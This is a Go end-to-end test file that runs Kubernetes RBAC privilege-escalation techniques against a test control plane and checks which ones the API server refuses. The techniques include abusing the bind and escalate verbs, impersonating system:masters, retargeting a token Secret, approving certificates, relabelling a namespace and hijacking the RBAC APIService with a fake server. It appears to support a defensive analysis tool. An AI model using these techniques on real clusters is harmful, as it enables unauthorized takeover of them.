package e2e

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strconv"
	"testing"
	"time"

	authenticationv1 "k8s.io/api/authentication/v1"
	authorizationv1 "k8s.io/api/authorization/v1"
	certificatesv1 "k8s.io/api/certificates/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"

	"github.com/plimsoll-io/plimsoll/e2e/controlplane"
)

// TestAttackMechanisms holds that a real API server does what the techniques of rbac/attack say, and refuses what they
// say it refuses.
func TestAttackMechanisms(t *testing.T) {
	c := controlplane.Start(t, controlplane.Options{Minor: *minor, Controllers: true})
	a := &attacker{c: c}
	t.Run("bind", a.bind)
	t.Run("create by name", a.createByName)
	t.Run("escalate", a.escalate)
	t.Run("impersonate", a.impersonate)
	t.Run("read Secrets by name", a.readByName)
	t.Run("token Secret", a.tokenSecret)
	t.Run("certificate", a.certificate)
	t.Run("Namespace of a tenant", a.relabel)
	t.Run("API service", a.apiService)
}

// An attacker is a user with some rights, another one for every test.
type attacker struct{ c *controlplane.ControlPlane }

const rbacGroup = "rbac.authorization.k8s.io"

// with is a client of a new user with these rights everywhere, once the API server knows them.
func (a *attacker) with(t *testing.T, name string, rules ...rbacv1.PolicyRule) kubernetes.Interface {
	t.Helper()
	meta := metav1.ObjectMeta{Name: name}
	ctx := t.Context()
	role := &rbacv1.ClusterRole{ObjectMeta: meta, Rules: rules}
	if _, err := a.c.Client.RbacV1().ClusterRoles().Create(ctx, role, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	if _, err := a.c.Client.RbacV1().ClusterRoleBindings().Create(ctx, bindingTo(name, name, name), metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	last := rules[len(rules)-1]
	want := authorizationv1.ResourceAttributes{Verb: last.Verbs[0], Group: last.APIGroups[0], Resource: last.Resources[0]}
	if len(last.ResourceNames) > 0 {
		want.Name = last.ResourceNames[0]
	}
	err := controlplane.Wait(30*time.Second, func() error {
		review, err := a.c.Client.AuthorizationV1().SubjectAccessReviews().Create(ctx, &authorizationv1.SubjectAccessReview{
			Spec: authorizationv1.SubjectAccessReviewSpec{User: name, ResourceAttributes: &want},
		}, metav1.CreateOptions{})
		if err == nil && !review.Status.Allowed {
			err = fmt.Errorf("%s may not yet %s %s", name, want.Verb, want.Resource)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return a.as(t, rest.ImpersonationConfig{UserName: name})
}

func (a *attacker) as(t *testing.T, who rest.ImpersonationConfig) kubernetes.Interface {
	t.Helper()
	config := rest.CopyConfig(a.c.REST)
	config.Impersonate = who
	return newClient(t, config)
}

func newClient(t *testing.T, config *rest.Config) kubernetes.Interface {
	t.Helper()
	client, err := kubernetes.NewForConfig(config)
	if err != nil {
		t.Fatal(err)
	}
	return client
}

func allow(verbs, group, resource string, names ...string) rbacv1.PolicyRule {
	return rbacv1.PolicyRule{Verbs: []string{verbs}, APIGroups: []string{group}, Resources: []string{resource}, ResourceNames: names}
}

func bindingTo(name, role, user string) *rbacv1.ClusterRoleBinding {
	return &rbacv1.ClusterRoleBinding{
		TypeMeta:   metav1.TypeMeta{APIVersion: rbacGroup + "/v1", Kind: "ClusterRoleBinding"},
		ObjectMeta: metav1.ObjectMeta{Name: name},
		RoleRef:    rbacv1.RoleRef{APIGroup: rbacGroup, Kind: "ClusterRole", Name: role},
		Subjects:   []rbacv1.Subject{{APIGroup: rbacGroup, Kind: "User", Name: user}},
	}
}

// refused fails unless the API server forbids the request.
func refused(t *testing.T, what string, err error) {
	t.Helper()
	if !apierrors.IsForbidden(err) {
		t.Errorf("%s: %v, want it forbidden", what, err)
	}
}

func accepted(t *testing.T, what string, err error) {
	t.Helper()
	if err != nil {
		t.Errorf("%s: %v", what, err)
	}
}

func (a *attacker) bind(t *testing.T) {
	ctx := t.Context()
	writer := a.with(t, "writer", allow("update", rbacGroup, "clusterrolebindings"), allow("create", rbacGroup, "clusterrolebindings"))
	_, err := writer.RbacV1().ClusterRoleBindings().Create(ctx, bindingTo("grab", "cluster-admin", "writer"), metav1.CreateOptions{})
	refused(t, "create a binding without bind", err)
	existing, err := a.c.Client.RbacV1().ClusterRoleBindings().Get(ctx, "cluster-admin", metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	existing.Subjects = append(existing.Subjects, rbacv1.Subject{APIGroup: rbacGroup, Kind: "User", Name: "writer"})
	_, err = writer.RbacV1().ClusterRoleBindings().Update(ctx, existing, metav1.UpdateOptions{})
	refused(t, "change a binding without bind", err)

	binder := a.with(t, "binder", allow("create", rbacGroup, "clusterrolebindings"), allow("bind", rbacGroup, "clusterroles", "cluster-admin"))
	_, err = binder.RbacV1().ClusterRoleBindings().Create(ctx, bindingTo("grab", "cluster-admin", "binder"), metav1.CreateOptions{})
	accepted(t, "create a binding with bind", err)
}

// createByName holds that a rule for create with resourceNames does nothing for POST and everything for server-side apply.
func (a *attacker) createByName(t *testing.T) {
	ctx := t.Context()
	const name = "mine"
	client := a.with(t, "applier", allow("patch", rbacGroup, "clusterrolebindings", name),
		allow("bind", rbacGroup, "clusterroles", "view"), allow("create", rbacGroup, "clusterrolebindings", name))
	binding := bindingTo(name, "view", "applier")
	_, err := client.RbacV1().ClusterRoleBindings().Create(ctx, binding, metav1.CreateOptions{})
	refused(t, "POST with a rule that names the object", err)
	body := fmt.Sprintf(`{"apiVersion":"%s/v1","kind":"ClusterRoleBinding","metadata":{"name":%q},`+
		`"roleRef":{"apiGroup":%q,"kind":"ClusterRole","name":"view"},"subjects":[{"apiGroup":%q,"kind":"User","name":"applier"}]}`,
		rbacGroup, name, rbacGroup, rbacGroup)
	options := metav1.PatchOptions{FieldManager: "e2e"}
	_, err = client.RbacV1().ClusterRoleBindings().Patch(ctx, name, types.ApplyPatchType, []byte(body), options)
	accepted(t, "apply with a rule that names the object", err)
}

func (a *attacker) escalate(t *testing.T) {
	ctx := t.Context()
	change := func(client kubernetes.Interface, name string) error {
		role, err := a.c.Client.RbacV1().ClusterRoles().Get(ctx, name, metav1.GetOptions{})
		if err != nil {
			t.Fatal(err)
		}
		role.Rules = append(role.Rules, allow("*", "*", "*"))
		_, err = client.RbacV1().ClusterRoles().Update(ctx, role, metav1.UpdateOptions{})
		return err
	}
	refused(t, "change one's own role", change(a.with(t, "editor", allow("update", rbacGroup, "clusterroles")), "editor"))
	climber := a.with(t, "climber", allow("escalate", rbacGroup, "clusterroles", "climber"),
		allow("update", rbacGroup, "clusterroles", "climber"))
	refused(t, "change another role", change(climber, "editor"))
	accepted(t, "change one's own role with escalate", change(climber, "climber"))

	maker := a.with(t, "maker", allow("escalate", rbacGroup, "clusterroles", "new"), allow("create", rbacGroup, "clusterroles"))
	role := &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: "new"}, Rules: []rbacv1.PolicyRule{allow("get", "", "secrets")}}
	_, err := maker.RbacV1().ClusterRoles().Create(ctx, role, metav1.CreateOptions{})
	refused(t, "create a role with escalate limited to its name", err)
}

// impersonate asks through a real user, since the administrator's own impersonation is how the other tests work: he logs
// in with a token of a service account.
func (a *attacker) impersonate(t *testing.T) {
	ctx := t.Context()
	account := &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "proxy"}}
	if _, err := a.c.Client.CoreV1().ServiceAccounts("default").Create(ctx, account, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	const user = "system:serviceaccount:default:proxy"
	a.with(t, user, allow("impersonate", "", "users", "nobody"), allow("impersonate", "", "groups"))
	answer, err := a.c.Client.CoreV1().ServiceAccounts("default").
		CreateToken(ctx, "proxy", &authenticationv1.TokenRequest{}, metav1.CreateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	ask := func(who rest.ImpersonationConfig) error {
		config := rest.AnonymousClientConfig(a.c.REST)
		config.BearerToken, config.Impersonate = answer.Status.Token, who
		config.WarningHandler = rest.NoWarnings{}
		_, err := newClient(t, config).CoreV1().Secrets("kube-system").List(ctx, metav1.ListOptions{})
		return err
	}
	refused(t, "read Secrets as oneself", ask(rest.ImpersonationConfig{}))
	refused(t, "impersonate another user", ask(rest.ImpersonationConfig{UserName: "joe", Groups: []string{"system:masters"}}))
	masters := rest.ImpersonationConfig{UserName: "nobody", Groups: []string{"system:masters"}}
	accepted(t, "impersonate system:masters with a user", ask(masters))
	config := rest.AnonymousClientConfig(a.c.REST)
	config.BearerToken = answer.Status.Token
	config.Wrap(func(next http.RoundTripper) http.RoundTripper {
		return header{next, "Impersonate-Group", "system:masters"}
	})
	_, err = newClient(t, config).CoreV1().Secrets("kube-system").List(ctx, metav1.ListOptions{})
	if err == nil {
		t.Error("a group alone could be impersonated")
	}
}

// A header adds a header to every request.
type header struct {
	next       http.RoundTripper
	key, value string
}

func (h header) RoundTrip(r *http.Request) (*http.Response, error) {
	r = r.Clone(r.Context())
	r.Header.Set(h.key, h.value)
	return h.next.RoundTrip(r)
}

func (a *attacker) readByName(t *testing.T) {
	ctx := t.Context()
	secret := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "db"}, StringData: map[string]string{"key": "value"}}
	if _, err := a.c.Client.CoreV1().Secrets("default").Create(ctx, secret, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	client := a.with(t, "lister", allow("list", "", "secrets", "db"))
	_, err := client.CoreV1().Secrets("default").List(ctx, metav1.ListOptions{})
	refused(t, "list with a rule that names one", err)
	list, err := client.CoreV1().Secrets("default").List(ctx, metav1.ListOptions{FieldSelector: "metadata.name=db"})
	accepted(t, "list with its name in the field selector", err)
	if err == nil && (len(list.Items) != 1 || len(list.Items[0].Data) != 1) {
		t.Error("the list does not show the content")
	}
}

// tokenSecret holds that a token Secret is filled for the account that it names, and filled again for another.
func (a *attacker) tokenSecret(t *testing.T) {
	ctx := t.Context()
	for _, name := range []string{"weak", "strong"} {
		account := &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: name}}
		if _, err := a.c.Client.CoreV1().ServiceAccounts("default").Create(ctx, account, metav1.CreateOptions{}); err != nil {
			t.Fatal(err)
		}
	}
	client := a.with(t, "forger", allow("get", "", "secrets"), allow("update", "", "secrets"), allow("create", "", "secrets"))
	secrets := client.CoreV1().Secrets("default")
	secret, err := secrets.Create(ctx, &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{Name: "token", Annotations: map[string]string{corev1.ServiceAccountNameKey: "weak"}},
		Type:       corev1.SecretTypeServiceAccountToken,
	}, metav1.CreateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	a.loginWith(t, client, secret.Name, "weak")
	secret, err = secrets.Get(ctx, secret.Name, metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	secret.Annotations, secret.Data = map[string]string{corev1.ServiceAccountNameKey: "strong"}, nil
	if _, err := secrets.Update(ctx, secret, metav1.UpdateOptions{}); err != nil {
		t.Fatal(err)
	}
	a.loginWith(t, client, secret.Name, "strong")
}

// loginWith waits until the Secret's token is one of the account.
func (a *attacker) loginWith(t *testing.T, client kubernetes.Interface, secret, account string) {
	t.Helper()
	err := controlplane.Wait(30*time.Second, func() error {
		s, err := client.CoreV1().Secrets("default").Get(context.Background(), secret, metav1.GetOptions{})
		if err != nil {
			return err
		}
		if len(s.Data[corev1.ServiceAccountTokenKey]) == 0 {
			return errors.New("the Secret is not filled")
		}
		config := rest.AnonymousClientConfig(a.c.REST)
		config.BearerToken, config.WarningHandler = string(s.Data[corev1.ServiceAccountTokenKey]), rest.NoWarnings{}
		self, err := newClient(t, config).AuthenticationV1().SelfSubjectReviews().Create(
			context.Background(), &authenticationv1.SelfSubjectReview{}, metav1.CreateOptions{})
		if err != nil {
			return fmt.Errorf("the token is not accepted: %w", err)
		}
		if want := "system:serviceaccount:default:" + account; self.Status.UserInfo.Username != want {
			return fmt.Errorf("the token is of %s, want %s", self.Status.UserInfo.Username, want)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}

func (a *attacker) certificate(t *testing.T) {
	ctx := t.Context()
	const group = "certificates.k8s.io"
	half := a.with(t, "half", allow("update", group, "certificatesigningrequests/approval"),
		allow("create", group, "certificatesigningrequests"))
	masters := certificateFor(t, "masters", "system:masters")
	_, err := half.CertificatesV1().CertificateSigningRequests().Create(ctx, masters, metav1.CreateOptions{})
	refused(t, "ask for system:masters", err)
	csr, err := half.CertificatesV1().CertificateSigningRequests().Create(ctx, certificateFor(t, "admins", "admins"), metav1.CreateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	csr.Status.Conditions = []certificatesv1.CertificateSigningRequestCondition{{
		Type: certificatesv1.CertificateApproved, Status: corev1.ConditionTrue, Reason: "e2e",
	}}
	_, err = half.CertificatesV1().CertificateSigningRequests().UpdateApproval(ctx, csr.Name, csr, metav1.UpdateOptions{})
	refused(t, "approve without the verb approve", err)
	whole := a.with(t, "whole", allow("update", group, "certificatesigningrequests/approval"),
		allow("approve", group, "signers", "kubernetes.io/*"))
	_, err = whole.CertificatesV1().CertificateSigningRequests().UpdateApproval(ctx, csr.Name, csr, metav1.UpdateOptions{})
	accepted(t, "approve with the verb approve on the domain", err)
}

// certificateFor is a request for a client certificate of a user in a group.
func certificateFor(t *testing.T, name, group string) *certificatesv1.CertificateSigningRequest {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	der, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{
		Subject: pkix.Name{CommonName: "system:serviceaccount:kube-system:operator", Organization: []string{group}},
	}, key)
	if err != nil {
		t.Fatal(err)
	}
	return &certificatesv1.CertificateSigningRequest{
		ObjectMeta: metav1.ObjectMeta{Name: name},
		Spec: certificatesv1.CertificateSigningRequestSpec{
			Request:    pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: der}),
			SignerName: certificatesv1.KubeAPIServerClientSignerName, Usages: []certificatesv1.KeyUsage{certificatesv1.UsageClientAuth},
		},
	}
}

// relabel holds that a RoleBinding in a namespace is enough to change the Namespace itself.
func (a *attacker) relabel(t *testing.T) {
	ctx := t.Context()
	if err := ensureNamespace(ctx, a.c, "tenant"); err != nil {
		t.Fatal(err)
	}
	meta := metav1.ObjectMeta{Namespace: "tenant", Name: "relabel"}
	role := &rbacv1.Role{ObjectMeta: meta, Rules: []rbacv1.PolicyRule{allow("patch", "", "namespaces")}}
	if _, err := a.c.Client.RbacV1().Roles("tenant").Create(ctx, role, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	binding := &rbacv1.RoleBinding{
		ObjectMeta: meta, RoleRef: rbacv1.RoleRef{APIGroup: rbacGroup, Kind: "Role", Name: meta.Name},
		Subjects: []rbacv1.Subject{{APIGroup: rbacGroup, Kind: "User", Name: "tenant"}},
	}
	if _, err := a.c.Client.RbacV1().RoleBindings("tenant").Create(ctx, binding, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	client := a.as(t, rest.ImpersonationConfig{UserName: "tenant"})
	patch := []byte(`{"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"privileged"}}}`)
	err := controlplane.Wait(30*time.Second, func() error {
		_, err := client.CoreV1().Namespaces().Patch(ctx, "tenant", types.MergePatchType, patch, metav1.PatchOptions{})
		return err
	})
	accepted(t, "change the Namespace", err)
	_, err = client.CoreV1().Namespaces().Patch(ctx, "default", types.MergePatchType, patch, metav1.PatchOptions{})
	refused(t, "change another Namespace", err)
}

// apiService holds that who may patch the APIService of RBAC answers all requests for it.
func (a *attacker) apiService(t *testing.T) {
	ctx := t.Context()
	evil := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		if r.URL.Path == "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/forged" {
			_, _ = fmt.Fprint(w, `{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRoleBinding","metadata":{"name":"forged"}}`)
			return
		}
		_, _ = fmt.Fprint(w, `{"kind":"APIResourceList","apiVersion":"v1","groupVersion":"rbac.authorization.k8s.io/v1","resources":[]}`)
	}))
	t.Cleanup(evil.Close)
	_, text, err := net.SplitHostPort(evil.Listener.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	port, err := strconv.ParseInt(text, 10, 32)
	if err != nil {
		t.Fatal(err)
	}
	service := &corev1.Service{ObjectMeta: metav1.ObjectMeta{Name: "evil"}, Spec: corev1.ServiceSpec{
		Type: corev1.ServiceTypeExternalName, ExternalName: "localhost", Ports: []corev1.ServicePort{{Port: int32(port)}},
	}}
	if _, err := a.c.Client.CoreV1().Services("default").Create(ctx, service, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	const name = "v1.rbac.authorization.k8s.io"
	client := a.with(t, "server", allow("patch", "apiregistration.k8s.io", "apiservices", name))
	patch := fmt.Sprintf(`{"spec":{"insecureSkipTLSVerify":true,"service":{"namespace":"default","name":"evil","port":%d}}}`, port)
	err = client.CoreV1().RESTClient().Patch(types.MergePatchType).AbsPath("/apis/apiregistration.k8s.io/v1/apiservices/" + name).
		Body([]byte(patch)).Do(ctx).Error()
	if err != nil {
		t.Fatal(err)
	}
	err = controlplane.Wait(30*time.Second, func() error {
		_, err := a.c.Client.RbacV1().ClusterRoleBindings().Get(ctx, "forged", metav1.GetOptions{})
		return err
	})
	accepted(t, "serve bindings to the administrator", err)
}
